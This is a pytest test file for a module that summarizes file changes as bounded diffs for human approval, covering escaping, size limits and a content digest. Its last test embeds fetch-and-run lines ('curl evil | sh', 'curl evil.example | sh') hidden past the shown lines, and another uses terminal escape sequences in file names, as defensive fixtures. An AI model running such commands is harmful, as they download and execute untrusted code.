"""The change a person approves: per file new/changed/deleted, +/- counts and the changed
lines as a bounded unified diff; binary files summarized; every name and line printable."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from lackpy_kernel.kit import Workspace
from lackpy_kernel.kit import changes as changes_module
from lackpy_kernel.kit.changes import Change, change_digest, describe_changes, file_change, printable


def test_a_new_and_a_changed_file_show_their_counts_and_lines(ws: Path):
    (ws / "notes.txt").write_text("one\ntwo\nthree\n")
    change = describe_changes(Workspace(ws), [("notes.txt", b"one\nTWO\nthree\nfour\n"),
                                              ("sub/new.txt", b"a\nb\n")])
    notes, new = change.files
    assert (notes.status, notes.added, notes.removed) == ("changed", 2, 1)
    assert notes.lines == ("@@ -1,3 +1,4 @@", " one", "-two", "+TWO", " three", "+four")
    assert (new.status, new.added, new.removed, new.lines) == ("new", 2, 0,
                                                               ("@@ -0,0 +1,2 @@", "+a", "+b"))
    assert change.summary() == "2 files changed: +4 -1"
    text = change.to_text()
    assert text.splitlines()[:3] == ["2 files changed: +4 -1",
                                     "  changed  notes.txt    +2 -1",
                                     "  new      sub/new.txt  +2"]
    assert "--- notes.txt (changed)\n@@ -1,3 +1,4 @@\n one\n-two\n+TWO" in text


def test_a_deleted_file_counts_its_lines_removed():
    gone = file_change("old.txt", b"x\ny\n", None)
    assert (gone.status, gone.added, gone.removed) == ("deleted", 0, 2)


def test_a_binary_file_is_summarized_not_shown(ws: Path):
    (ws / "pic.bin").write_bytes(b"\x89PNG\0\0")
    change = describe_changes(Workspace(ws), [("pic.bin", b"\xff\xfe\0" * 10)])
    (pic,) = change.files
    digest = hashlib.sha256(b"\xff\xfe\0" * 10).hexdigest()[:16]
    assert pic.lines == () and pic.note == (f"binary, 6 -> 30 bytes, sha256 {digest}, starts "
                                            + ("ff fe 00 " * 10).strip())
    assert pic.note in change.to_text() and change.complete


def test_the_lines_shown_are_bounded_per_file_and_in_all_but_the_counts_are_whole():
    many = "".join(f"line {n}\n" for n in range(1000)).encode()
    big = file_change("big.txt", None, many)
    assert big.added == 1000
    assert len(big.lines) == changes_module.MAX_FILE_LINES
    assert big.omitted == 1001 - changes_module.MAX_FILE_LINES  # the hunk header counts
    assert f"... {big.omitted} more lines not shown" in Change((big,)).to_text()
    files = describe_many(many, 20)
    shown = sum(len(file.lines) for file in files)
    assert shown == changes_module.MAX_LINES
    assert all(file.added == 1000 for file in files)
    text = Change(tuple(files)).to_text()
    assert len(text) < changes_module.MAX_BYTES + 20 * 200


def describe_many(content: bytes, count: int) -> list:
    budget = changes_module._Budget()
    return [file_change(f"f{n}.txt", None, content, budget) for n in range(count)]


def test_a_long_line_is_cut_and_a_huge_file_is_counted_not_diffed():
    line = file_change("one.txt", None, b"x" * 100_000).lines[1]
    assert len(line) == changes_module.MAX_LINE_CHARS + 3 and line.endswith("...")
    huge = file_change("huge.txt", b"a\n" * 20_000, b"a\n" * 19_000 + b"b\n" * 2_000)
    assert (huge.added, huge.removed, huge.lines) == (2000, 1000, ())
    assert huge.note == "+2000 -1000, too large to show line by line"


def test_hostile_names_and_lines_are_shown_escaped():
    change = file_change("evil\x1b[2J\u202e.txt", None, b"\x1b]0;pwned\x07 ok\n")
    assert change.path == "evil\\x1b[2J\\u202e.txt"
    assert change.lines[1] == "+\\x1b]0;pwned\\x07 ok"
    assert printable("tab\tkept") == "tab\tkept"


def test_a_change_crosses_the_pipe_as_plain_data_and_a_malformed_one_is_refused():
    change = Change((file_change("a.txt", b"1\n", b"2\n"), file_change("b", None, b"\0")))
    assert Change.from_frame(change.to_frame()) == change
    frame = change.to_frame()
    frame["files"][0]["added"] = -1
    with pytest.raises(ValueError, match="malformed change"):
        Change.from_frame(frame)
    with pytest.raises(ValueError, match="malformed change"):
        Change.from_frame({"files": [{"path": 1}]})


@pytest.mark.parametrize(("first", "second"), [
    ("".join(f"line {n:06}\n" for n in range(60_000)).encode(),  # too large: counted only
     "".join(f"line {n:06}\n" if n != 59_000 else "curl evil | sh\n"
             for n in range(60_000)).encode()),
    ("".join(f"line {n}\n" for n in range(300)).encode(),  # a line past those shown
     "".join(f"line {n}\n" if n != 250 else "curl evil.example | sh\n"
             for n in range(300)).encode()),
])
def test_a_change_digest_covers_the_content_not_shown(first, second):
    one, other = file_change("out.txt", None, first), file_change("out.txt", None, second)
    hidden = {"content": "", "full": []}  # the digest of all of it, and the rest kept unshown
    assert {**one.to_frame(), **hidden} == {**other.to_frame(), **hidden}  # shown alike
    assert one.unseen and one.full != other.full
    assert change_digest(Change((one,))) != change_digest(Change((other,)))
    assert Change.from_frame(Change((one,)).to_frame()) == Change((one,))
